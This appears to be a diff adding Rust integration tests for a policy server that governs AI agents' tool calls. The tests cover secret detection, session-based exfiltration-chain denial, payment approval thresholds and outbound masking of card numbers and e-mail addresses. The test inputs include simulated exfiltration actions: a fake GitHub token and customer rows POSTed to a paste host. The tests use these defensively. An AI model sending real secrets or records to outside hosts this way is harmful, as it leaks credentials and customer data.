@@ -1,0 +1,266 @@
+//! Issue 17 through the running server: `input.detections` (the detectors over an action's
+//! params and context) and `input.session` (the earlier actions of its session), with the
+//! example policies of `examples/policies/detections` and `examples/policies/session`
+//! deciding as docs/policies.md says.
+
+use serde_json::{json, Value};
+
+use crate::common::{examples, policy_dir, TestServer, ADMIN_TOKEN, ALLOW_ALL};
+
+/// A policy directory with an allow-all policy and the example policies of `dirs` (their
+/// unit tests are skipped by the server).
+fn with_examples(dirs: &[&str]) -> tempfile::TempDir {
+    let dir = policy_dir(&[("allow.rego", ALLOW_ALL)]);
+    for example in dirs {
+        for entry in std::fs::read_dir(examples(example)).unwrap() {
+            let path = entry.unwrap().path();
+            let name = path.file_name().unwrap().to_string_lossy().to_string();
+            std::fs::copy(&path, dir.path().join(name)).unwrap();
+        }
+    }
+    dir
+}
+
+async fn decide(server: &TestServer, key: &str, action: Value) -> Value {
+    let (status, body) = server.act(key, action).await;
+    // 200 allowed, 202 waiting for approval, 403 denied.
+    assert!([200, 202, 403].contains(&status), "{status} {body}");
+    body
+}
+
+/// A GitHub token in the params of a call to a host outside the allowlist is denied by the
+/// secret-egress example; the detections are in `action.decided` and on the stored action,
+/// and the token itself is in neither.
+#[tokio::test]
+async fn a_secret_sent_to_an_unlisted_host_is_denied() {
+    let policies = with_examples(&["detections"]);
+    let server = TestServer::start(policies.path(), |_| {}).await;
+    let (_, key) = server.create_agent("leaky").await;
+    let token = "ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789";
+    let denied = decide(
+        &server,
+        &key,
+        json!({"tool": "http_proxy", "operation": "POST",
+               "params": {"url": "https://paste.example.net/upload", "body": {"note": format!("use {token} to push")}}}),
+    )
+    .await;
+    assert_eq!(denied["decision"], "deny", "{denied}");
+    assert_eq!(
+        denied["reason"],
+        "a secret (github_token) may not be sent outside the allowlisted hosts"
+    );
+
+    // Without a secret, the same destination is not the example's concern.
+    let clean = decide(
+        &server,
+        &key,
+        json!({"tool": "notes", "operation": "write", "params": {"url": "https://paste.example.net/", "text": "hello"}}),
+    )
+    .await;
+    assert_eq!(clean["decision"], "allow", "{clean}");
+
+    let events = server.audit(None).await;
+    let decided: Vec<&Value> = events
+        .iter()
+        .filter(|e| e["type"] == "action.decided")
+        .collect();
+    assert_eq!(decided.len(), 2);
+    let found = decided[0]["data"]["detections"].as_array().unwrap();
+    assert!(
+        found.iter().any(|d| d["detector"] == "github_token"
+            && d["kind"] == "secret"
+            && d["path"] == "/params/body/note"),
+        "{found:?}"
+    );
+    assert_eq!(decided[1]["data"]["detections"], json!([]));
+    let chain = serde_json::to_string(&events).unwrap();
+    assert!(!chain.contains(token), "the token is in the audit chain");
+    let (_, stored) = server
+        .get_json(
+            &format!("/v1/actions/{}", denied["id"].as_str().unwrap()),
+            ADMIN_TOKEN,
+        )
+        .await;
+    assert!(
+        !stored.to_string().contains(token),
+        "the token is in the action view: {stored}"
+    );
+}
+
+/// The session examples: a POST to a new host after reading customer records in the same
+/// session is denied (not in another session); the third payment within ten minutes of a
+/// session needs approval (not the first of another).
+#[tokio::test]
+async fn session_examples_decide_on_what_came_before() {
+    let policies = with_examples(&["session"]);
+    let server = TestServer::start(policies.path(), |_| {}).await;
+    let (_, key) = server.create_agent("sessions").await;
+
+    let read = decide(
+        &server,
+        &key,
+        json!({"tool": "crm", "operation": "GET",
+               "params": {"url": "https://crm.example.com/customers?page=1"},
+               "context": {"session_id": "s-1"}}),
+    )
+    .await;
+    assert_eq!(read["decision"], "allow", "{read}");
+    let upload = |session: &str| {
+        json!({"tool": "http_proxy", "operation": "POST",
+               "params": {"url": "https://paste.example.net/upload", "body": {"rows": 100}},
+               "context": {"session_id": session}})
+    };
+    let chained = decide(&server, &key, upload("s-1")).await;
+    assert_eq!(chained["decision"], "deny", "{chained}");
+    assert!(
+        chained["reason"]
+            .as_str()
+            .unwrap()
+            .starts_with("exfiltration chain"),
+        "{chained}"
+    );
+    // Another session never read customer records: the example does not concern it (the
+    // dry run shows the policies' decision without running the call).
+    let (status, other) = server
+        .post_json("/v1/actions/dry-run", &key, upload("s-2"))
+        .await;
+    assert_eq!(status, 200, "{other}");
+    assert_ne!(
+        other["decision"]["reason"]
+            .as_str()
+            .or(other["reason"].as_str())
+            .unwrap_or_default(),
+        chained["reason"].as_str().unwrap(),
+        "{other}"
+    );
+
+    let charge = |session: &str| {
+        json!({"tool": "payments", "operation": "charge", "params": {"amount": 100},
+               "context": {"session_id": session}})
+    };
+    let decisions: Vec<String> = {
+        let mut d = Vec::new();
+        for _ in 0..3 {
+            let body = decide(&server, &key, charge("s-3")).await;
+            d.push(body["decision"].as_str().unwrap().to_string());
+        }
+        d
+    };
+    assert_eq!(decisions, ["allow", "allow", "require_approval"]);
+    let elsewhere = decide(&server, &key, charge("s-4")).await;
+    assert_eq!(elsewhere["decision"], "allow", "{elsewhere}");
+}
+
+/// The outbound checks: an upstream answer carrying a card number reaches the agent masked
+/// and is stored masked (the default rules); an organisation that blocks e-mail addresses
+/// gets no result for an answer with one (the action fails, nothing of it stored).
+#[tokio::test]
+async fn an_upstream_answer_is_masked_or_withheld_by_the_outbound_rules() {
+    let upstream = crate::common::Upstream::start().await;
+    let policies = policy_dir(&[("allow.rego", ALLOW_ALL)]);
+    let server = TestServer::start(policies.path(), |_| {}).await;
+    let (_, key) = server.create_agent("fetcher").await;
+    let card = "4111 1111 1111 1111";
+    // The upstream echoes the body it received.
+    let ran = decide(
+        &server,
+        &key,
+        json!({"tool": "http_proxy", "operation": "POST",
+               "params": {"url": upstream.url("/orders"), "body": {"note": format!("card {card} for order 7")}}}),
+    )
+    .await;
+    assert_eq!(ran["status"], "executed", "{ran}");
+    let answer = ran["result"].to_string();
+    assert!(!answer.contains(card), "{answer}");
+    assert!(answer.contains("**** **** **** 1111"), "{answer}");
+    assert_eq!(upstream.count(), 1);
+    let id = ran["id"].as_str().unwrap();
+    let (_, stored) = server
+        .get_json(&format!("/v1/actions/{id}"), ADMIN_TOKEN)
+        .await;
+    assert!(!stored.to_string().contains(card), "{stored}");
+    let events = server.audit(None).await;
+    assert!(!serde_json::to_string(&events).unwrap().contains(card));
+    let executed = events
+        .iter()
+        .find(|e| e["type"] == "action.executed")
+        .unwrap();
+    let found = executed["data"]["outbound"].as_array().unwrap();
+    assert!(
+        found
+            .iter()
+            .any(|d| d["detector"] == "payment_card" && d["action"] == "mask"),
+        "{found:?}"
+    );
+
+    // The organisation's own rules: e-mail addresses are blocked.
+    let (status, bad) = server
+        .send_json(
+            reqwest::Method::PATCH,
+            "/v1/settings",
+            ADMIN_TOKEN,
+            json!({"outbound_detection": {"emails": "block"}}),
+        )
+        .await;
+    assert_eq!(status, 400, "{bad}");
+    assert_eq!(bad["error"]["field"], "outbound_detection", "{bad}");
+    let (status, settings) = server
+        .send_json(
+            reqwest::Method::PATCH,
+            "/v1/settings",
+            ADMIN_TOKEN,
+            json!({"outbound_detection": {"email": "block"}}),
+        )
+        .await;
+    assert_eq!(status, 200, "{settings}");
+    assert_eq!(settings["outbound_detection_in_force"]["email"], "block");
+    assert_eq!(
+        settings["outbound_detection_in_force"]["payment_card"],
+        "mask"
+    );
+    let withheld = decide(
+        &server,
+        &key,
+        json!({"tool": "http_proxy", "operation": "POST",
+               "params": {"url": upstream.url("/contacts"), "body": {"to": "ceo@example.com"}}}),
+    )
+    .await;
+    assert_eq!(withheld["status"], "failed", "{withheld}");
+    assert!(
+        withheld["result"]["error"]
+            .as_str()
+            .unwrap()
+            .starts_with("outbound_blocked:"),
+        "{withheld}"
+    );
+    let (_, stored) = server
+        .get_json(
+            &format!("/v1/actions/{}", withheld["id"].as_str().unwrap()),
+            ADMIN_TOKEN,
+        )
+        .await;
+    assert!(!stored.to_string().contains("\"upstream\""), "{stored}");
+    let failed = server
+        .audit(None)
+        .await
+        .into_iter()
+        .find(|e| e["type"] == "action.failed")
+        .unwrap();
+    assert_eq!(failed["data"]["kind"], "outbound_blocked");
+
+    // Removed again: the server's rules apply.
+    let (status, settings) = server
+        .send_json(
+            reqwest::Method::PATCH,
+            "/v1/settings",
+            ADMIN_TOKEN,
+            json!({"outbound_detection": null}),
+        )
+        .await;
+    assert_eq!(status, 200, "{settings}");
+    assert_eq!(settings["outbound_detection"], Value::Null);
+    assert_eq!(
+        settings["outbound_detection_in_force"]["email"],
+        Value::Null
+    );
+}
